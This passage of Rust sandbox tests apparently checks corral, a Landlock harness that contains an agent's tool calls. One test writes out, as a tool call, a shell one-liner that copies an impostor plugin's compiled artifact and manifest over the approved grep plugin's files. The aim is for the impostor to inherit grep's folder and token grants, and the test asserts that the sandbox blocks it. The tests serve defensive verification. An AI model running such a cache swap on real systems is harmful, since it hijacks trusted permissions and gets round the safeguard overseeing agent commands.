/// beside it), so it is corral's own state, out of reach like its config, even when the user
/// lets commands write the cache folder it lies in (`writable = ["~/.cache"]`, as pip and go
/// need). A command that copies an impostor's artifact and manifest over the approved grep's
/// must change nothing there, and the approved grep stays the real one: its grants (a folder
/// and a token) never reach the impostor's code.
#[test]
fn commands_cannot_swap_a_compiled_plugin_in_corrals_cache() {
    if !landlock("commands_cannot_swap_a_compiled_plugin_in_corrals_cache") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral().env("GITHUB_TOKEN", "tok-123");
    let config = corral.home.path().join(".config/corral");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(
        config.join("config.toml"),
        "[shell]\nwritable = [\"~/.cache\"]\n",
    )
    .unwrap();
    corral.write("src/secret.txt", "the source secret\n");
    corral.write(
        "corral.toml",
        "[plugin.grep]\nread = [\"src/\"]\nenv = [\"GITHUB_TOKEN\"]\n",
    );
    // Both compiled into the cache (two plugins named grep: neither loads), then the impostor
    // goes; the real grep is trusted and approved.
    let plugins = corral.install(&["grep", "shadow"]);
    corral.run(None, &["plugins"]).assert_code(0);
    std::fs::remove_file(plugins.join("shadow.wasm")).unwrap();
    corral.trust();
    let cache = corral.home.path().join(".cache/corral/plugins");
    let before = snapshot(&cache);
    assert!(before.len() >= 4, "both compiled and cached: {before:?}");

    let swap = "cd \"$XDG_CACHE_HOME/corral/plugins\" && s=$(grep -l impostor *.manifest.json) \
                && s=${s%.manifest.json} && for m in *.manifest.json; do k=${m%.manifest.json}; \
                [ \"$k\" = \"$s\" ] || { cp \"$s.cwasm\" \"$k.cwasm\" && cp \"$s.manifest.json\" \"$m\"; }; \
                done && echo swapped";
    let results = corral.call_tools(vec![bash("swap", swap)]);
    assert!(
        !results[0].1.contains("swapped") || snapshot(&cache) == before,
        "{results:?}"
    );
    assert_eq!(
        snapshot(&cache),
        before,
        "the compile cache was changed by a command"
    );

    let results = corral.call_tools(vec![tool_use(
        "g",
        "grep",
        json!({"pattern": "secret", "path": "src/secret.txt"}),
    )]);
    assert!(
        !results[0].0
            && results[0].1.contains("the source secret")
            && !results[0].1.contains("tok-123"),
        "grep's grants went to another component: {results:?}"
    );
    outside.assert_untouched();
}

/// A shell the sandbox cannot start (its file is a hidden path) is reported as a shell would
/// report a missing program: the reason on the command's output and exit code 127, not a hang
/// or a status made up.
#[test]
fn a_shell_that_cannot_start_says_why() {
    if !landlock("a_shell_that_cannot_start_says_why") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral();
    let shell = std::fs::canonicalize(corral::process::shell_path()).expect("sh");
    corral.write(
        "corral.toml",
        &format!("[shell]\nhidden = [{:?}]\n", shell.display().to_string()),
    );
    corral.trust();
    let results = corral.call_tools(vec![bash("run", "echo never")]);
    let (is_error, text) = &results[0];
    assert!(*is_error, "{text}");
    assert!(text.contains("127"), "{text}");
    assert!(text.contains("corral: "), "{text}");
    assert!(!text.contains("never"), "{text}");
}

/// A command too long to go to the zygote inline (over 64 KiB) goes through a memfd and runs
/// whole; a short one beside it goes inline.
#[test]
fn a_long_command_reaches_the_sandbox_whole() {
    if !landlock("a_long_command_reaches_the_sandbox_whole") {
        return;
    }
    let outside = Outside::new();
    let corral = outside.corral();
    let long = format!("printf %s {} | wc -c", "x".repeat(100_000));
    let results = corral.call_tools(vec![bash("long", &long), bash("short", "echo short")]);
    assert!(!results[0].0, "{:?}", results[0]);
    assert_eq!(results[0].1.lines().next().map(str::trim), Some("100000"));
    assert!(results[1].1.contains("short"), "{:?}", results[1]);
}
